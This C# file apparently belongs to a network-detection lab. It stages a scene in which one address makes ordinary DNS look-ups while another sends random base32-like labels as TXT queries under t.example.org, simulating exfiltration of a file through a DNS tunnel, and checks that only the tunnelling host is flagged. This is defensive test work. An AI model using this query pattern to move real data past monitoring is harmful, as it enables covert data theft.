using System.Globalization;
using System.Net;
using Blackwall.Lab.Servers;

namespace Blackwall.Lab.Story.Scenes;

/// <summary>
/// dig asks a name server outside: from one inside address many ordinary names, from the other what a tunnel would ask. Only the tunnel is told,
/// of the one who asked, and nobody is acted on.
/// </summary>
public sealed class DnsTunnelScene(int guest) : IScene
{
    private const int Names = 45;
    private static readonly TimeSpan s_limit = TimeSpan.FromSeconds(30);
    private static readonly string[] s_words = ["mail", "www", "cdn", "api", "img", "static", "login", "news", "shop", "video"];

    public string Title => "A tunnel through DNS beside ordinary look-ups (dig, dnsmasq)";

    public async Task PlayAsync(Play play, CancellationToken cancellation)
    {
        var (stage, server) = (play.Stage, play.Stage.Network.Server);
        var outside = await stage.Network.AddGuestAsync(guest);
        await using var nameServer = await NameServer.StartAsync(outside, cancellation);
        play.Narrator.Say($"the server looks up {4 * Names} ordinary names, and sends {Names} pieces of a file in names, over IPv4 and over IPv6 each");
        var watch = new InsideWatch(play, Title);
        var tunnel = await File(stage, "tunnel", Tunnel());
        var ordinary = await File(stage, "ordinary", Ordinary());
        await Task.WhenAll(
            BothAsync(server.Addresses4[1], server.Addresses4[0], outside.Addresses4[0]),
            BothAsync(server.Addresses6[1], server.Addresses6[0], outside.Addresses6[0]));
        await watch.NobodyActedOnAsync([.. outside.Addresses4, .. outside.Addresses6, .. server.Addresses4, .. server.Addresses6], cancellation);

        async Task BothAsync(IPAddress user, IPAddress infected, IPAddress where)
        {
            play.Facts.Some(Title, $"ordinary questions of {user} that were answered", await AskAsync(stage, user, where, ordinary, cancellation));
            play.Facts.Some(Title, $"pieces of {infected} that were answered", await AskAsync(stage, infected, where, tunnel, cancellation));
            await watch.ToldAsync(infected, "dns-tunnel", cancellation);
            await watch.NotToldAsync(user, "dns-tunnel", cancellation);
        }
    }

    private static async Task<int> AskAsync(Stage stage, IPAddress from, IPAddress where, string questions, CancellationToken cancellation)
    {
        var answers = await stage.Network.Server.Network.TryAsync(["dig", "-b", $"{from}", $"@{where}", "+tries=2", "+time=1", "-f", questions], s_limit, cancellation);
        return answers.Output.Split('\n').Count(line => line.Contains(", status: ", StringComparison.Ordinal));
    }

    private static async Task<string> File(Stage stage, string name, IEnumerable<string> lines)
    {
        var file = stage.Run.File(name);
        await System.IO.File.WriteAllLinesAsync(file, lines);
        return file;
    }

    // Many domains, many names below one of a content network, an address list asked in reverse, and the same names again.
    private static IEnumerable<string> Ordinary() => Enumerable.Range(0, Names).SelectMany(i => new[]
    {
        string.Create(CultureInfo.InvariantCulture, $"{s_words[i % s_words.Length]}.site{i}.example A"),
        string.Create(CultureInfo.InvariantCulture, $"{s_words[i % s_words.Length]}.site{i}.example AAAA"),
        string.Create(CultureInfo.InvariantCulture, $"{s_words[i % s_words.Length]}{i}.edge.content.example A"),
        string.Create(CultureInfo.InvariantCulture, $"{i + 1}.2.0.192.in-addr.arpa PTR"),
    });

    private static List<string> Tunnel()
    {
        Random payload = new(11);
        return Enumerable.Range(0, Names).Select(i => string.Create(CultureInfo.InvariantCulture, $"{Word(payload, 48)}.{i}.t.example.org TXT")).ToList();
    }

    private static string Word(Random random, int length) => string.Concat(Enumerable.Range(0, length).Select(_ => "abcdefghijklmnopqrstuvwxyz234567"[random.Next(32)]));
}
